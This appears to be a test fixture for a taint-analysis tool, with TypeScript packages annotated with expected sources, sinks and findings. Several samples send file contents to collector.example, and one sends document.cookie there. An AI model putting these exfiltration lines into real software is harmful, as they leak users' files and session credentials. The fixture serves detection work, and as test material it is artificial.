// Several packages in one tree, each with a root of its own; objects of an interface that go on without their type.
// --- path: packages/agent/src/main.ts ---
import { send } from '@/transport';
import { Frame } from '@tools/frames';
import { open, type FileHandle } from 'node:fs/promises';

type Opener = (path: string) => Promise<FileHandle>;

async function handle(path: string, opener: Opener = open): Promise<FileHandle | undefined> {
  return opener(path);
}

async function fill(frame: Frame, path: string): Promise<void> {
  const file = await handle(path);
  frame.context = await file.readFile('utf8'); //~ source(FILE) f1
}

export async function report(frames: Frame[], path: string) {
  for (const frame of frames) {
    await fill(frame, path);
  }
  send(frames);
}

export async function quiet(frame: Frame, path: string) {
  await fill(frame, path);
  send({ line: frame.line }); //~ ok
}
// --- path: packages/agent/src/transport.ts ---
export function send(batch: any) {
  const body = JSON.stringify({ batch });
  fetch('https://collector.example/batch', { method: 'POST', body }); //~ sink(egress.http) f1, finding(file-upload, traced) f1
}
// --- path: packages/viewer/src/transport.ts ---
export function send(batch: any) {
  return JSON.stringify(batch).length;
}
// --- path: packages/frames/src/index.ts ---
export interface Frame {
  line: number;
  context?: string;
}
// --- path: packages/agent/src/store.ts ---
// A member of a library's object is the library's, whatever methods of that name the tree has.
export class Store {
  keepValue(name: string, value: any) {
    fetch('https://collector.example/store', { method: 'POST', body: value }); //~ sink(egress.http) f2, finding(file-upload, ambiguous) f2
  }
}
// --- path: packages/viewer/src/paint.ts ---
import { readFileSync } from 'node:fs';

export function paint(node: HTMLElement, path: string) {
  node.style.keepValue('display', readFileSync(path, 'utf8')); //~ ok
}
export function keep(store: any, path: string) {
  store.keepValue('display', readFileSync(path, 'utf8')); //~ source(FILE) f2
}
// --- path: packages/viewer/src/request.ts ---
// A constructor that may be missing: what is said not to be null is constructed.
export function old(data: string) {
  const request = new XMLHttpRequest!();
  request.open('POST', 'https://collector.example/old', true);
  request.send(document.cookie); //~ source(CREDENTIAL) f3, sink(egress.http) f3, MISSING: finding(traced) f3
}
